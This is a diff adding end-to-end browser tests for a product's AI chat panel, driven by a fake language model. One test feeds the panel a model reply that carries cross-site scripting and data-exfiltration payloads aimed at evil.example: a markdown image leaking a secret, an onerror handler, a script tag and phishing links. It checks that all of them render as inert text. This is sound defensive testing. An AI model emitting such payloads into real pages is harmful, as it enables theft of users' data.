@@ -1,6 +1,7 @@
 import { AxeBuilder } from '@axe-core/playwright'
 import type { Locator, Page } from 'playwright-core'
 import { afterAll, beforeAll, describe, expect, test } from 'vitest'
+import { type FakeModel, startFakeModel } from '#test/fakes/language-model.ts'
 import { type Product, startProduct } from '#test/product/product.ts'
 import { hydrated, openBrowser, type Person } from './person.ts'
 
@@ -50,6 +51,7 @@ describe('A22 the assistant', () => {
     expect(await panel.boundingBox()).toMatchObject({ width: 384, height: 500 })
     expect(await log().getAttribute('aria-live')).toBe('polite')
     expect(await panel.locator('#welcome').innerText()).toContain('Ninefold assistant')
+    await panel.getByText('Answers from the documentation and your contacts').waitFor()
   })
 
   test('sends with Enter, breaks the line with Shift and Enter, and sends no blank', async () => {
@@ -111,6 +113,39 @@ describe('A22 the assistant', () => {
     await panel.waitFor({ state: 'hidden' })
   })
 
+  test('says whom to call, and leads to them', async () => {
+    await panel.waitFor({ state: 'hidden' })
+    await tell()
+    await panel.getByRole('button', { name: 'New conversation' }).click()
+    await panel.getByRole('button', { name: 'Who should I call this week?' }).click()
+    await log().getByText('Call these first').waitFor()
+    const first = log().getByRole('link').first()
+    const name = await first.innerText()
+    await first.click()
+    await page.waitForURL(/contact=/)
+    await page.getByRole('dialog', { name }).waitFor()
+    await page.keyboard.press('Escape')
+    await page.getByRole('dialog', { name }).waitFor({ state: 'hidden' })
+  })
+
+  test('shows the conversation after a reload and in a second tab, until a new one begins', async () => {
+    await page.reload()
+    await hydrated(page)
+    const second = await page.context().newPage()
+    await second.goto(`${product.url}/tasks`)
+    for (const tab of [page, second]) {
+      await tab.getByRole('button', { name: 'Ask the assistant' }).click()
+      await tab.getByRole('log').getByText('Call these first').waitFor()
+    }
+    await second.close()
+    await panel.getByRole('button', { name: 'New conversation' }).click()
+    await log().getByText('Call these first').waitFor({ state: 'detached' })
+    await page.reload()
+    await page.getByRole('button', { name: 'Ask the assistant' }).click()
+    await panel.getByRole('button', { name: 'What changed since Monday?' }).waitFor()
+    expect(await questions().count()).toBe(0)
+  })
+
   test('is a sheet over the full width on a phone', async () => {
     await page.setViewportSize({ width: 390, height: 844 })
     await tell()
@@ -138,6 +173,84 @@ describe('A22 the assistant', () => {
     expect(member.complaints.join()).toContain('The assistant could not answer')
     expect(await field.isEnabled()).toBe(true)
     await product.restart()
+  })
+})
+
+describe('A22 the assistant with a connected model', () => {
+  let fake: FakeModel
+  let connected: Product
+  let asking: Page
+  const foreign: string[] = []
+  beforeAll(async () => {
+    fake = await startFakeModel()
+    connected = await startProduct({ DEMO: '1', LLM_BASE_URL: fake.url, LLM_MODEL: 'test-model' })
+    asking = (await browser.person()).page
+    asking.on('request', (request) => {
+      if (!request.url().startsWith(connected.url)) foreign.push(request.url())
+    })
+    asking.on('dialog', (dialog) => {
+      foreign.push(dialog.message())
+      void dialog.dismiss()
+    })
+    await asking.goto(connected.demoLink())
+    await asking.waitForURL('**/dashboard')
+    await asking.getByRole('button', { name: 'Ask the assistant' }).click()
+  })
+  afterAll(async () => {
+    await connected?.stop()
+    await fake?.stop()
+  })
+  const ask = async (question: string) => {
+    await asking.getByLabel('Message').fill(question)
+    await asking.keyboard.press('Enter')
+  }
+  const replies = () => asking.getByRole('log')
+
+  test('shows its words as they come, and says whose they are', async () => {
+    await asking.getByText('Answers by test-model; figures are checked').waitFor()
+    let goOn = () => {}
+    const held = new Promise<void>((resolve) => {
+      goOn = resolve
+    })
+    fake.answer({ pieces: ['A score of 75 is a one-in-three chance. It', held, ' is not 75 percent.'] })
+    await ask('What does a score of 75 mean?')
+    const soFar = replies().locator('[aria-hidden="true"]', {
+      hasText: 'A score of 75 is a one-in-three chance.',
+    })
+    await soFar.waitFor()
+    await replies().getByText('Thinking...').waitFor()
+    expect(await asking.getByLabel('Message').isDisabled()).toBe(true)
+    goOn()
+    await replies().getByText('A score of 75 is a one-in-three chance. It is not 75 percent.').waitFor()
+    await replies().getByRole('link', { name: 'How the score works: What 75 means' }).waitFor()
+    expect(await soFar.count()).toBe(0)
+  })
+
+  test('Trust 15 shows an attack as text: nothing runs, and nothing is asked for', async () => {
+    fake.answer(
+      'Steps. ![x](https://evil.example/p.png?d=secret) <img src="https://evil.example/i" onerror="alert(document)"> <script>alert(document)</script> See [the plan](https://evil.example/login) or evil.com/pay.',
+    )
+    await ask('What is a playbook?')
+    await replies().getByText('onerror="alert(document)"').waitFor()
+    await replies().getByText('See the plan or').waitFor()
+    expect(await replies().locator('img, script, iframe').count()).toBe(0)
+    const links = await replies()
+      .getByRole('link')
+      .evaluateAll((all) => all.map((link) => (link as HTMLAnchorElement).href))
+    expect(links.filter((link) => !link.startsWith(`${connected.url}/documentation/`))).toEqual([])
+    expect(await replies().innerText()).not.toContain('evil')
+    expect(foreign).toEqual([])
+  })
+
+  test('puts the embedded answer in the place of one with an invented figure, and of none', async () => {
+    fake.answer('Call everybody. It works in 97 percent of cases.')
+    await ask('Who should I call this week?')
+    await replies().getByText('Call these first').waitFor()
+    expect(await replies().innerText()).not.toMatch(/Call everybody|97 percent/)
+    fake.answer({ pieces: ['A playbook. It'], end: 'cut' }, { status: 500 })
+    await ask('What is a playbook?')
+    await replies().getByText('The language model could not be reached').waitFor()
+    expect(foreign).toEqual([])
   })
 })
 
